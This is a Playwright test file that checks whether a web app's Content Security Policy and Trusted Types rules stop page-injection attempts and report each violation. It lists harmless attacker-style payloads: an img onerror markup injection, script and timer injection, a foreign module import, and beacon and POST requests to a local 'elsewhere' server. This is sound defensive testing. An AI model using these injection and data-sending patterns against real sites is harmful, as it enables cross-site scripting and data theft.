import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page } from '@playwright/test';
import { pinnedNow, test } from '#e2e/fixtures.ts';
import { overHttp } from '#e2e/server.ts';
import { listen } from '#e2e/silence.ts';
import { scenarioAddress } from '#e2e/simulator.ts';

// What an attacker would try who can already change the page: each is stopped by its policy and told of, in the build
// with the simulator in it and in the production build. That nothing of the app's own is stopped, every spec proves.

interface Plant {
  readonly what: string;
  /** The directive that stops it. */
  readonly directive: string;
  /** Tries it in the page; `elsewhere` is another origin. */
  readonly attempt: (elsewhere: string) => unknown;
}

const trustedTypes = 'require-trusted-types-for';

const plants: readonly Plant[] = [
  {
    what: 'text as markup',
    directive: trustedTypes,
    attempt: () => {
      document.createElement('p').innerHTML = '<img src="x" onerror="window.planted = true">';
    },
  },
  {
    what: 'text as a document',
    directive: trustedTypes,
    attempt: () => new DOMParser().parseFromString('<p>', 'text/html'),
  },
  {
    what: 'text as a script',
    directive: trustedTypes,
    attempt: () => {
      document.createElement('script').text = 'window.planted = true';
    },
  },
  {
    what: 'text as a timer',
    directive: trustedTypes,
    attempt: () => setTimeout('window.planted = true'),
  },
  {
    what: 'a worker from text',
    directive: trustedTypes,
    attempt: () => new Worker(URL.createObjectURL(new Blob(['']))),
  },
  {
    what: 'an address as a script',
    directive: trustedTypes,
    attempt: (origin) => {
      document.createElement('script').src = `${origin}/planted.js`;
    },
  },
  {
    what: 'a Trusted Types policy of its own',
    directive: 'trusted-types',
    attempt: () => Reflect.get(window, 'trustedTypes').createPolicy('planted', {}),
  },
  {
    what: 'an event attribute',
    directive: trustedTypes,
    attempt: () => {
      const button = document.createElement('button');
      document.body.append(button);
      try {
        button.setAttribute('onclick', 'window.planted = true');
      } finally {
        button.click();
        button.remove();
      }
    },
  },
  {
    what: 'a module from elsewhere',
    directive: 'script-src-elem',
    attempt: (origin) => import(`${origin}/planted.js`),
  },
  { what: 'a request to elsewhere', directive: 'connect-src', attempt: (origin) => fetch(origin, { method: 'POST' }) },
  {
    what: 'a beacon to elsewhere',
    directive: 'connect-src',
    attempt: (origin) => navigator.sendBeacon(origin, 'planted'),
  },
  {
    what: 'an image from elsewhere',
    directive: 'img-src',
    attempt: (origin) => {
      new Image().src = `${origin}/planted.png`;
    },
  },
  {
    what: 'a style of its own',
    directive: 'style-src-elem',
    attempt: () => {
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
    },
  },
  {
    what: 'a style attribute',
    directive: 'style-src-attr',
    attempt: () => document.createElement('p').setAttribute('style', 'color: red'),
  },
  {
    what: 'a frame of elsewhere',
    directive: 'frame-src',
    attempt: (origin) => {
      const frame = document.createElement('iframe');
      frame.src = origin;
      document.body.append(frame);
    },
  },
  {
    what: 'another base of all addresses',
    directive: 'base-uri',
    attempt: (origin) => {
      const base = document.createElement('base');
      base.href = origin;
      document.head.prepend(base);
    },
  },
  {
    what: 'a form to elsewhere',
    directive: 'form-action',
    attempt: (origin) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = origin;
      document.body.append(form);
      form.submit();
    },
  },
];

/** Opens the page in a browser whose noise is this spec's alone, and answers the noise. */
async function overheard(page: Page, origin: string): Promise<readonly string[]> {
  const noise = await listen(
    page.context(),
    () => origin,
    () => ({ statuses: [], networkFailures: true }),
  );
  await page.goto(overHttp ? '/licenses' : scenarioAddress('registered', { now: pinnedNow, path: '/licenses' }));
  await page.getByRole('heading', { level: 1 }).waitFor();
  return noise;
}

/** Another origin, which notes whatever reaches it. */
async function listeningElsewhere() {
  const reached: string[] = [];
  const server = createServer(({ url = '' }, reply) => {
    reached.push(url);
    reply.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, reached, close: () => server.close() };
}

test('whatever the policy forbids is stopped, and no spec that sees it passes', async ({ browser, baseURL }) => {
  const elsewhere = await listeningElsewhere();
  const context = await browser.newContext({ baseURL: baseURL ?? '' });
  const page = await context.newPage();
  const noise = await overheard(page, baseURL ?? '');
  for (const { what, directive, attempt } of plants) {
    await test.step(what, async () => {
      const before = noise.length;
      await page.evaluate(attempt, elsewhere.origin).catch(() => undefined);
      await expect(() => {
        const broken = `the page’s policy was broken: ${directive} `;
        const heard = noise.slice(before).filter((line) => line.includes(broken));
        expect(heard, what).toHaveLength(1);
      }).toPass();
    });
  }
  expect(await page.evaluate(() => Reflect.get(window, 'planted'))).toBeUndefined();
  expect(elsewhere.reached).toEqual([]);
  await context.close();
  elsewhere.close();
});
